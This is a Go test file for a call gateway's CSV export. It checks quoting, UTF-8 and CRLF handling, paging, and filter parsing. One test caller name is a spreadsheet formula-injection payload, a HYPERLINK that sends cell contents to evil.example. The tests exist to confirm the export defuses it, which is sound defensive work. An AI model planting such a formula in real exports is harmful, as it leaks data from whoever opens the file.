package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"flag"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ponte-gw/ponte/store"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden files")

// goldenCalls covers an answered and transferred call, a missed BSUID-only
// call and an abandoned one, with caller names that try formula injection
// and every quoting case of RFC 4180.
func goldenCalls(t *testing.T, s store.Store) {
	t.Helper()
	calls := []*store.Call{
		{
			ID: "pc-0001", WACID: "wacid.AAA", SIPCallID: "sip-a2", Direction: store.Inbound,
			Caller:         store.Party{Number: "5511987654321", Name: `=HYPERLINK("http://evil.example/?d="&A1,"click")`},
			BusinessNumber: "+551140004000", PhoneNumberID: "1234567890", Route: "support", Mode: "ring_then_answer",
			Attempts: []store.Attempt{
				{Target: "sip:sales@pbx.example.com", Trunk: "pbx", Started: t0.Add(time.Second), Ended: t0.Add(16 * time.Second), Result: "ring_timeout"},
				{Target: "sip:default@pbx.example.com", Trunk: "pbx", Started: t0.Add(16 * time.Second), Ended: t0.Add(19 * time.Second), Result: "200", Agent: "agent7"},
			},
			Transfers:  []store.Transfer{{At: t0.Add(80 * time.Second), By: "agent7", ReferTo: "sip:billing@pbx.example.com", Result: "200"}},
			AnsweredBy: "agent7", Offered: t0, PreAccepted: t0.Add(400 * time.Millisecond), Accepted: t0.Add(19500 * time.Millisecond),
			Answered: t0.Add(19 * time.Second), Ended: t0.Add(139*time.Second + 250*time.Millisecond),
			Outcome: store.OutcomeAnswered, EndReason: "completed", EndedBy: store.EndedByCaller, MetaStatus: "COMPLETED",
			Media: store.Media{
				WhatsApp: store.LegMedia{Codec: "opus", PacketsSent: 6000, PacketsReceived: 5990, PacketsLost: 10, JitterMs: 3.25, RTTMs: 140},
				SIP:      store.LegMedia{Codec: "PCMA", PacketsSent: 5990, PacketsReceived: 6000, JitterMs: 0.5, RTTMs: 1},
				MOS:      4.28,
			},
		},
		{
			ID: "pc-0002", Direction: store.Inbound, Caller: store.Party{BSUID: "BR.1399", Name: "Zé \"Zezinho\", da Silva"},
			PhoneNumberID: "1234567890", Route: "support", Offered: t0.Add(time.Hour), PreAccepted: t0.Add(time.Hour + time.Second),
			Attempts: []store.Attempt{{Target: "sip:default@pbx.example.com", Started: t0.Add(time.Hour), Ended: t0.Add(time.Hour + 486*time.Millisecond), Result: "486", Reason: "Busy Here"}},
			Ended:    t0.Add(time.Hour + 31*time.Second), Outcome: store.OutcomeMissed, EndReason: "target_486", EndedBy: store.EndedBySystem,
			MetaStatus: "FAILED", MetaErrors: []int{138021, 138022},
		},
		{
			ID: "pc-0003", Direction: store.Outbound, Caller: store.Party{Number: "5521999990000", Name: "-1+2\r\nsecond line"},
			AnsweredBy: "@agent9", Offered: t0.Add(2 * time.Hour), Ended: t0.Add(2*time.Hour + 5*time.Second),
			Outcome: store.OutcomeAbandoned, EndReason: "caller_hangup", EndedBy: store.EndedByCaller,
		},
		{
			ID: "pc-0004", Direction: store.Inbound, Caller: store.Party{Number: "5511911112222", Name: "\tTAB+1"},
			Offered: t0.Add(3 * time.Hour), // still ringing
		},
	}
	for _, c := range calls {
		if err := s.Create(context.Background(), c); err != nil {
			t.Fatal(err)
		}
	}
}

func TestCSVGolden(t *testing.T) {
	s := memStore(t, false)
	goldenCalls(t, s)
	h := New(Config{Token: token, Calls: s})
	w := do(t, h, "GET", "/api/calls.csv", "Bearer "+token)
	if w.Code != 200 {
		t.Fatalf("%d %s", w.Code, w.Body.String())
	}
	if ct := w.Header().Get("Content-Type"); ct != "text/csv; charset=utf-8; header=present" {
		t.Fatalf("content-type %q", ct)
	}
	got := w.Body.Bytes()
	golden := filepath.Join("testdata", "calls.golden.csv")
	if *update {
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Fatalf("CSV differs from %s (run with -update after checking):\n%s", golden, got)
	}

	// Independent of the golden file: BOM, CRLF records, and a strict
	// RFC 4180 reader gets the defused cells back.
	if !bytes.HasPrefix(got, []byte("\xEF\xBB\xBF")) {
		t.Fatal("no UTF-8 BOM")
	}
	r := csv.NewReader(bytes.NewReader(got[3:]))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 || !slices.Equal(rows[0], csvHeader) {
		t.Fatalf("%d rows, header %v", len(rows), rows[0])
	}
	col := func(name string) int { return slices.Index(csvHeader, name) }
	cases := []struct {
		row  int
		col  string
		want string
	}{
		{4, "caller_name", `'=HYPERLINK("http://evil.example/?d="&A1,"click")`},
		{4, "protocol", "2026-1121-0001"},
		{4, "targets", "sip:sales@pbx.example.com ring_timeout; sip:default@pbx.example.com 200"},
		{4, "duration_s", "120.250"},
		{4, "business_number", "'+551140004000"},
		{3, "caller_name", `Zé "Zezinho", da Silva`},
		{3, "meta_errors", "138021 138022"},
		{3, "caller_number", ""},
		{2, "caller_name", "'-1+2\nsecond line"}, // encoding/csv reads a quoted CRLF as LF
		{2, "answered_by", "'@agent9"},
		{1, "caller_name", "'\tTAB+1"},
		{1, "outcome", "active"},
		{1, "ended", ""},
	}
	for _, tc := range cases {
		if got := rows[tc.row][col(tc.col)]; got != tc.want {
			t.Errorf("row %d %s = %q, want %q", tc.row, tc.col, got, tc.want)
		}
	}
	// Every record ends in CRLF, never a bare LF (the one inside a quoted
	// cell is the caller's own CRLF).
	if bytes.Count(got, []byte("\n")) != bytes.Count(got, []byte("\r\n")) {
		t.Fatal("bare LF in the CSV")
	}
}

func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"plain", "plain"},
		{"", ""},
		{"a,b", `"a,b"`},
		{`say "hi"`, `"say ""hi"""`},
		{"=1+1", `"'=1+1"`},
		{"+5511", `"'+5511"`},
		{"-3", `"'-3"`},
		{"@SUM(A1)", `"'@SUM(A1)"`},
		{"\tx", "\"'\tx\""},
		{"\rx", "\"'\rx\""},
		{"a=b", "a=b"}, // only a leading character starts a formula
		{"bad\xffutf8", "bad\uFFFDutf8"},
	} {
		if got := csvCell(tc.in); got != tc.want {
			t.Errorf("csvCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCSVPagesAndLimit(t *testing.T) {
	s := memStore(t, false)
	seedCalls(t, s, 1201)
	h := New(Config{Token: token, Calls: s})
	for _, tc := range []struct {
		q    string
		rows int
	}{{"", 1201}, {"limit=700", 700}, {"limit=500", 500}, {"direction=outbound", 600}} {
		w := do(t, h, "GET", "/api/calls.csv?"+tc.q, "Bearer "+token)
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(w.Body.String(), "\uFEFF"))).ReadAll()
		if w.Code != 200 || err != nil || len(rows)-1 != tc.rows {
			t.Errorf("%q: %d, %d rows, %v; want %d", tc.q, w.Code, len(rows)-1, err, tc.rows)
			continue
		}
		// Newest first, no duplicates across internal pages.
		ids := map[string]bool{}
		for _, r := range rows[1:] {
			if ids[r[1]] {
				t.Fatalf("%q: %s twice", tc.q, r[1])
			}
			ids[r[1]] = true
		}
	}
	if w := do(t, h, "GET", "/api/calls.csv?to=nope", "Bearer "+token); w.Code != 400 || !strings.Contains(errorOf(t, w), "to=") {
		t.Fatalf("bad filter: %d %s", w.Code, w.Body.String())
	}
}

// FuzzParseFilter: any query string either fails with ErrBadQuery or gives a
// filter whose fields are valid and that survives a re-encode unchanged.
func FuzzParseFilter(f *testing.F) {
	f.Add("from=2026-11-21T00:00:00-03:00&to=2026-11-22T00:00:00Z&direction=inbound&outcome=missed&caller=%2B5511&route=support&limit=20")
	f.Add("cursor=" + store.EncodeCursor(t0.UnixNano(), "pc-1"))
	f.Add("limit=-1&limit=2")
	f.Add("x=%ff")
	f.Add("from=2026-02-30T00:00:00Z")
	f.Fuzz(func(t *testing.T, raw string) {
		q, err := url.ParseQuery(raw)
		if err != nil {
			return
		}
		flt, err := ParseFilter(q)
		if err != nil {
			if !strings.Contains(err.Error(), ErrBadQuery.Error()) {
				t.Fatalf("error without ErrBadQuery: %v", err)
			}
			return
		}
		if flt.Limit < 0 || flt.Limit > maxQueryLimit {
			t.Fatalf("limit %d", flt.Limit)
		}
		if flt.Direction != "" && flt.Direction != store.Inbound && flt.Direction != store.Outbound {
			t.Fatalf("direction %q", flt.Direction)
		}
		if flt.Outcome != "" && !slices.Contains(store.Outcomes, flt.Outcome) {
			t.Fatalf("outcome %q", flt.Outcome)
		}
		if !flt.From.IsZero() && !flt.To.IsZero() && !flt.From.Before(flt.To) {
			t.Fatalf("from %v not before to %v", flt.From, flt.To)
		}
		again, err := ParseFilter(encodeFilter(flt))
		if err != nil {
			t.Fatalf("re-encoded filter rejected: %v", err)
		}
		if !again.From.Equal(flt.From) || !again.To.Equal(flt.To) {
			t.Fatalf("times changed: %v %v -> %v %v", flt.From, flt.To, again.From, again.To)
		}
		again.From, again.To, flt.From, flt.To = time.Time{}, time.Time{}, time.Time{}, time.Time{}
		if again != flt {
			t.Fatalf("round trip: %+v -> %+v", flt, again)
		}
	})
}

// encodeFilter is ParseFilter's inverse, for the round-trip property.
func encodeFilter(f store.Filter) url.Values {
	q := url.Values{}
	set := func(k, v string) {
		if v != "" {
			q.Set(k, v)
		}
	}
	if !f.From.IsZero() {
		set("from", f.From.Format(time.RFC3339Nano))
	}
	if !f.To.IsZero() {
		set("to", f.To.Format(time.RFC3339Nano))
	}
	set("direction", string(f.Direction))
	set("outcome", string(f.Outcome))
	set("caller", f.Caller)
	set("route", f.Route)
	if f.Limit > 0 {
		q.Set("limit", strconv.Itoa(f.Limit))
	}
	set("cursor", f.Cursor)
	return q
}
